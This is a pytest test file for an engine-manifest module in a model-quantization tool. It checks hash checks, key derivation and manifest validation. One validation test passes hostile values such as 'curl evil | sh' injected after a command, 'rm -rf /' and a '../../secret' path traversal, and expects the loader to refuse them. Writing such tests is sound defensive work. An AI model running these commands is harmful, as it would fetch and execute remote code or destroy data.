"""Tests of the manifest beside an engine."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper
from snapshot import as_snapshot

from accuquant.engine_manifest import (
    EngineManifest,
    built_root,
    digest_model,
    engine_key,
    engine_path,
    manifest_path,
)
from accuquant.errors import EngineError

MANIFEST = EngineManifest(
    engine_sha256=hashlib.sha256(b"kernels").hexdigest(),
    engine_bytes=7,
    model_files={"model.onnx": "aa" * 32, "model.onnx_data": "bb" * 32},
    recipe_sha256="cc",
    library="tensorrt_rtx",
    version="1.7.1",
    target="sm89",
    options={"target": "sm89", "profile": {"x": [[1], [1], [1]]}},
    seconds=1.5,
    rebuild="accuquant build OUT --target sm89",
    accuquant_version="0.1.0",
)


@pytest.fixture
def engine(tmp_path: Path) -> Path:
    path = tmp_path / "model.engine"
    path.write_bytes(b"kernels")
    MANIFEST.save(path)
    return path


def test_what_is_saved_is_loaded(engine: Path) -> None:
    assert EngineManifest.load(engine) == MANIFEST
    EngineManifest.load(engine).check_engine(engine)


def test_an_engine_with_other_bytes_is_refused_with_the_command(engine: Path) -> None:
    engine.write_bytes(b"kernelz")
    with pytest.raises(EngineError, match=r"other bytes.*Do not run it.*accuquant build OUT --target sm89"):
        EngineManifest.load(engine).check_engine(engine)


def test_an_engine_that_is_not_there_is_refused(engine: Path) -> None:
    engine.unlink()
    with pytest.raises(EngineError, match="no such file"):
        EngineManifest.load(engine).check_engine(engine)


def test_an_engine_without_a_manifest_is_refused(engine: Path) -> None:
    manifest_path(engine).unlink()
    with pytest.raises(EngineError, match=r"no manifest 'model.engine.json'.*accuquant build"):
        EngineManifest.load(engine)


@pytest.mark.parametrize(
    "change",
    [
        {"version": "1.8.0"},
        {"model_files": {"model.onnx": "a0" * 32, "model.onnx_data": "bb" * 32}},
        {"options": {"target": "sm86"}},
        {"key": "0"},
        {"format_version": 2},
    ],
)
def test_a_changed_manifest_is_refused(engine: Path, change: dict[str, Any]) -> None:
    path = manifest_path(engine)
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with pytest.raises(EngineError, match=r"do not match its key|format version 2"):
        EngineManifest.load(engine)


@pytest.mark.parametrize("text", ["", "{", "[]", "{}", '{"format_version": 1, "key": "0", "other": 1}'])
def test_a_damaged_manifest_is_refused(engine: Path, text: str) -> None:
    manifest_path(engine).write_text(text)
    with pytest.raises(EngineError, match=r"the JSON that build writes|got format version None"):
        EngineManifest.load(engine)


@pytest.mark.parametrize(
    "change",
    [
        {"model_files": {"model.onnx": "a1" * 32, "model.onnx_data": "bb" * 32}},
        {"model_files": {"model.onnx": "aa" * 32, "model.onnx_data": "b1" * 32}},
        {"model_files": {"model.onnx": "aa" * 32}},
        {"recipe_sha256": "c1"},
        {"library": "tensorrt"},
        {"version": "1.7.2"},
        {"options": {"target": "sm86", "profile": {"x": [[1], [1], [1]]}}},
        {"options": {"target": "sm89", "profile": {"x": [[1], [1], [2]]}}},
    ],
)
def test_whatever_an_engine_depends_on_changes_its_key(change: dict[str, Any]) -> None:
    assert replace(MANIFEST, **change).key != MANIFEST.key


def test_what_an_engine_does_not_depend_on_leaves_its_key() -> None:
    renamed = {"copy.onnx": "aa" * 32, "model.onnx_data": "bb" * 32}
    other = replace(MANIFEST, model_files=renamed, seconds=2.0, rebuild="x", engine_sha256="1" * 64)
    assert other.key == MANIFEST.key
    assert MANIFEST.key == engine_key(
        MANIFEST.model_files, "cc", "tensorrt_rtx", "1.7.1", dict(reversed(MANIFEST.options.items()))
    )


def test_external_data_is_part_of_a_models_digest(tmp_path: Path) -> None:
    path = tmp_path / "m.onnx"
    weights = numpy_helper.from_array(np.arange(6, dtype=np.float32), "w")
    value = helper.make_tensor_value_info("y", TensorProto.FLOAT, [6])
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [value], [weights])
    onnx.save(helper.make_model(graph), path, save_as_external_data=True, location="w.bin", size_threshold=0)
    digest = digest_model(path)
    assert list(digest) == ["m.onnx", "w.bin"]
    assert digest["w.bin"] == hashlib.sha256((tmp_path / "w.bin").read_bytes()).hexdigest()
    (tmp_path / "w.bin").unlink()
    with pytest.raises(EngineError, match=r"no file 'w.bin' beside it"):
        digest_model(path)


def test_engines_lie_by_target_and_library() -> None:
    path = engine_path(Path("out"), "unet/group_00.onnx", "sm89", "tensorrt_rtx")
    assert path == Path("out/engines/sm89/tensorrt_rtx/group_00.engine")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("engine_sha256", 5),
        ("engine_sha256", "00"),
        ("engine_bytes", 10**400),
        ("engine_bytes", -1),
        ("model_files", {}),
        ("model_files", ["model.onnx"]),
        ("model_files", {"../../secret": "0" * 64}),
        ("options", 3),
        ("options", {"a": [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]] * 1}),
        ("library", None),
        ("seconds", "long"),
        ("rebuild", "accuquant build OUT; curl evil | sh"),
        ("rebuild", "rm -rf /"),
        ("rebuild", "accuquant build 'OUT"),
    ],
)
def test_a_value_of_another_type_or_a_command_of_another_is_refused(
    engine: Path, field: str, value: object
) -> None:
    path = manifest_path(engine)
    path.write_text(json.dumps(json.loads(path.read_text()) | {field: value}))
    with pytest.raises(EngineError, match=r"model\.engine\.json': got "):
        EngineManifest.load(engine)


def test_fields_of_a_later_release_are_ignored(engine: Path) -> None:
    path = manifest_path(engine)
    path.write_text(json.dumps(json.loads(path.read_text()) | {"of a later release": [1]}))
    assert EngineManifest.load(engine) == MANIFEST


def test_engines_of_a_folder_are_in_it_and_those_of_a_download_are_in_a_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "accuquant.json").write_text("{}")
    snapshot = as_snapshot(tmp_path / "out", tmp_path / "hub")
    assert built_root(tmp_path / "out") == tmp_path / "out"
    monkeypatch.delenv("ACCUQUANT_CACHE", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert built_root(snapshot).is_relative_to(tmp_path / "xdg" / "accuquant")
    monkeypatch.setenv("ACCUQUANT_CACHE", str(tmp_path / "ours"))
    assert built_root(snapshot).is_relative_to(tmp_path / "ours")
    assert built_root(snapshot) != built_root(snapshot / "unet")
